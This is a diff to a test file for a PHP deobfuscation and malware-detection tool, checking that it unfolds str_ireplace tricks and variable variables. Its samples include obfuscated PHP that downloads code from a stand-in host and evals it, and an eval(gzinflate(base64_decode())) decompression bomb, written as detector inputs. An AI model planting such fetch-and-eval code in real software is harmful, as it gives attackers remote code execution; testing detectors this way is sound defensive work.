@@ -87,6 +87,22 @@ describe('PHP constant expressions', () => {
     expect(foldPhpConstants(twice)).toBe(twice);
   });
 
+  it('replaces without regard to case, and reads a variable variable set once', () => {
+    expect(foldPhpConstants(`<?php f(str_ireplace('XX', 'st', 'syXXem'));`)).toContain(
+      `f('system')`,
+    );
+    // `$$c` is `$a` when $c holds "a": a call through it reads as the function $a names.
+    const fetched = `<?php $a = str_ireplace("zz", "et_contents", "file_gZZ"); $c = "a"; $b = $$c('https://paste.example.test/raw/x'); eval($b);`;
+    expect(foldPhpConstants(fetched)).toContain(`$b = file_get_contents('https://`);
+    expect(judge(fetched)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/runs code it downloads/),
+    });
+    // A variable variable whose name is set twice, or indexed, is left as written.
+    const twice = `<?php $c = "a"; $c = "b"; echo $$c; echo $$d[0];`;
+    expect(foldPhpConstants(twice)).toBe(twice);
+  });
+
   it('stays bounded on hostile input: deep nesting, a decompression bomb, many pieces', () => {
     const deep = `<?php $x = ${'('.repeat(5000)}'a'${')'.repeat(5000)}; ?>`;
     const bomb = `<?php eval(gzinflate(base64_decode('${b64(deflateRawSync(Buffer.alloc(50 * 1024 * 1024)))}'))); ?>`;
